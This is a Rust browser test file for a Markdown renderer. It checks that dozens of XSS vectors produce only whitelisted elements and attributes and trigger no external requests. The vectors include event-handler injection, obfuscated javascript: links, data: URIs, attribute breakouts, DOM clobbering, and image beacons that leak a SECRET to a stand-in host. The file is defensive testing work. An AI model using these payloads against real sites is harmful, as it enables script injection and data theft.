//! Whatever a message holds, the page gets only the elements, attributes and addresses of the closed set, at every prefix.

#![cfg(target_arch = "wasm32")]
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a test may fail"
)]

mod drawing;

use drawing::{attribute_names, elements, live, picture, prefixes};
use js_sys::{Array, Function, Reflect};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::{wasm_bindgen_test, wasm_bindgen_test_configure};
use web_sys::Element;

wasm_bindgen_test_configure!(run_in_browser);

/// The elements that Markdown can become.
const ELEMENTS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "section",
    "span",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "tr",
    "ul",
];

/// The attributes that they can have, and for those with a closed set of values, the values.
const ATTRIBUTES: &[(&str, Option<&[&str]>)] = &[
    ("aria-hidden", Some(&["true"])),
    ("aria-label", Some(&["Back to the text", "Code", "Done", "Footnote 1", "Footnotes", "To do", "Table"])),
    ("aria-live", Some(&["polite"])),
    ("checked", Some(&[""])),
    ("class", Some(CLASSES)),
    ("aria-pressed", Some(&["true", "false"])),
    ("data-action", Some(&["copy", "go", "preview", "wrap"])),
    ("data-to", Some(&[".notes>:nth-child(1)", ".to-1"])),
    ("disabled", Some(&[""])),
    ("href", None),
    ("referrerpolicy", Some(&["no-referrer"])),
    ("rel", Some(&["noopener noreferrer nofollow ugc"])),
    ("role", Some(&["note", "group"])),
    ("scope", Some(&["col"])),
    ("start", None),
    ("tabindex", Some(&["0", "-1"])),
    ("target", Some(&["_blank"])),
    ("title", None),
    ("type", Some(&["button", "checkbox"])),
];

const CLASSES: &[&str] = &[
    "alert caution",
    "alert important",
    "alert note",
    "alert tip",
    "alert warning",
    "alert-title",
    "center",
    "claims",
    "code",
    "code wrap",
    "cursor",
    "host",
    "html-source",
    "image",
    "image-alt",
    "lang",
    "left",
    "lines",
    "long",
    "notes",
    "right",
    "task",
    "tasks",
    "tight",
    "tight tasks",
    "to-1",
    "wide",
    "words",
];

/// Groups 1 to 8: raw HTML, script addresses, data addresses, references, remote content, breakouts, info strings, clobbering.
const VECTORS: &[&str] = &[
    // 1: raw HTML.
    "<img src=x onerror=\"__pwned=1\">",
    "<svg/onload=__pwned=1>",
    "<script>__pwned=1</script>",
    "text <script>__pwned=1</script> text",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<math><mtext></p><img src=x onerror=__pwned=1>",
    "<a href=\"javascript:__pwned=1\" onclick=__pwned=1>x</a>",
    "<details open ontoggle=__pwned=1>",
    "- <b onmouseover=__pwned=1>x\n> <style>*{color:red}</style>",
    "<!--\n<img src=x onerror=__pwned=1>\n-->",
    // 2: script addresses.
    "[x](javascript:__pwned=1)",
    "[x](JaVaScRiPt:__pwned=1)",
    "[x](java&#x0A;script:__pwned=1)",
    "[x](&#106;avascript:__pwned=1)",
    "[x](\u{1}javascript:__pwned=1)",
    "[x](java%0ascript:__pwned=1)",
    "[x](java\tscript:__pwned=1)",
    "[x](javascript&colon;__pwned=1)",
    "[x](<javascript:__pwned=1>)",
    // 3: data and other schemes.
    "[x](data:text/html,<script>__pwned=1</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQ9MSI+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<data:text/html,x>",
    "[x](vbscript:x)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://a#Intent;end)",
    // 4: reference style, autolinks, footnotes.
    "[x][a]\n\n[a]: javascript:__pwned=1",
    "![x][img]\n\n[img]: https://canary.example/?q=SECRET",
    "<javascript:__pwned=1>",
    "www.canary.example and https://canary.example/?q=<b>",
    "a[^1]\n\n[^1]: <img src=x onerror=__pwned=1>",
    // 5: remote content.
    "![x](https://canary.example/p.png?d=SECRET)",
    "![x](//canary.example/p)",
    "![x](http://127.0.0.1:9/x)",
    "<img srcset=\"https://canary.example/a 1x\">",
    "<link rel=prefetch href=https://canary.example/>",
    "<video poster=https://canary.example/p>",
    "<p style=\"background:url(https://canary.example/)\">x</p>",
    "<style>p{background:url(https://canary.example/)}</style>",
    // 6: breakouts of title and alt.
    "[x](https://a.example \"\\\" onmouseover=__pwned=1 x=\\\"\")",
    "![\" onerror=__pwned=1 \"](https://a.example)",
    "[x](https://a.example/\"onclick=\"__pwned=1)",
    // 7: info strings.
    "```js\" onload=\"__pwned=1\nx\n```",
    "```\"><img src=x onerror=__pwned=1>\nx\n```",
    "```cursor alert\nx\n```",
    "```html\n<script>__pwned=1</script>\n```",
    // 8: clobbering.
    "# innerHTML\n\n## <form name=body>\n\n[x](#__proto__)",
    "| <img src=x onerror=__pwned=1> | b |\n|-|-|\n| [x](javascript:__pwned=1) | <form id=location> |",
    "[x](#token=evil) [y](#constructor)",
];

fn check_element(element: &Element, shown: &str) {
    let tag = element.local_name();
    assert!(ELEMENTS.contains(&tag.as_str()), "<{tag}> at {shown:?}");
    assert_eq!(element.namespace_uri().as_deref(), Some("http://www.w3.org/1999/xhtml"));
    for name in attribute_names(element) {
        let value = element.get_attribute(&name).unwrap();
        let allowed = ATTRIBUTES.iter().find(|(allowed, _)| *allowed == name);
        let (_, values) = allowed.unwrap_or_else(|| panic!("<{tag} {name}={value:?}> at {shown:?}"));
        assert!(
            values.is_none_or(|values| values.contains(&value.as_str())),
            "{name}={value:?} at {shown:?}"
        );
    }
    if let Some(href) = element.get_attribute("href") {
        let safe = ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| href.starts_with(scheme));
        assert!(safe, "{href:?} at {shown:?}");
        // As the browser reads it, not only as it is written.
        let protocol = Reflect::get(element, &"protocol".into()).unwrap().as_string().unwrap();
        assert!(
            ["https:", "http:", "mailto:", "tel:"].contains(&protocol.as_str()),
            "{protocol} at {shown:?}"
        );
        assert_eq!(element.get_attribute("rel").as_deref(), Some("noopener noreferrer nofollow ugc"));
        assert_eq!(element.get_attribute("target").as_deref(), Some("_blank"));
    }
}

fn check(root: &Element, shown: &str) {
    elements(root).iter().for_each(|element| check_element(element, shown));
}

#[wasm_bindgen_test]
fn nothing_outside_the_closed_set_reaches_the_page() {
    for vector in VECTORS {
        let framed = format!("Before.\n\n- item\n\n{vector}\n\nAfter [x] the vector.");
        for text in [*vector, &framed] {
            let mut live = live("");
            for prefix in prefixes(text) {
                live.reveal_to(prefix);
                check(live.container(), prefix);
            }
            live.settle();
            check(live.container(), text);
            live.container().remove();
        }
    }
    assert!(Reflect::get(&js_sys::global(), &"__pwned".into()).unwrap().is_undefined());
}

#[wasm_bindgen_test]
fn raw_html_is_visible_text() {
    for html in
        ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>", "a <b>c</b>"]
    {
        assert_eq!(live(html).container().text_content().unwrap().replace('▉', ""), html);
    }
}

#[wasm_bindgen_test]
fn a_link_that_claims_another_host_says_where_it_goes() {
    let live = live("[good.com](https://evil.example/x) and [words](https://fine.example)");
    let hosts = live.container().query_selector_all(".host").unwrap();
    assert_eq!(hosts.length(), 1, "{}", picture(live.container()));
    assert_eq!(hosts.get(0).unwrap().text_content().as_deref(), Some("evil.example"));
    let titles: Vec<_> =
        elements(live.container()).iter().filter_map(|element| element.get_attribute("title")).collect();
    assert_eq!(titles, ["evil.example", "fine.example"]);
}

#[wasm_bindgen_test]
fn a_link_to_a_fragment_of_this_page_is_words() {
    let live = live("[pair](#section)");
    assert!(live.container().query_selector("a").unwrap().is_none());
    assert_eq!(live.container().text_content().as_deref(), Some("pair▉"));
}

#[wasm_bindgen_test]
fn a_remote_image_is_a_card_with_its_host() {
    let live = live("![a cat](https://canary.example/cat.png)");
    assert_eq!(live.container().text_content().as_deref(), Some("a catOpen imagecanary.example▉"));
    assert_eq!(
        live.container().query_selector("a").unwrap().unwrap().get_attribute("href").as_deref(),
        Some("https://canary.example/cat.png")
    );
}

#[wasm_bindgen_test]
fn nobody_else_was_asked_for_anything() {
    VECTORS.iter().for_each(|vector| live(vector).settle());
    let entries =
        Function::new_no_args("return performance.getEntriesByType('resource').map(entry => entry.name)");
    let origin = drawing::window().location().origin().unwrap();
    let asked: Array = entries.call0(&js_sys::global()).unwrap().unchecked_into();
    for address in asked.iter().filter_map(|address| address.as_string()) {
        assert!(address.starts_with(&origin), "{address}");
    }
}
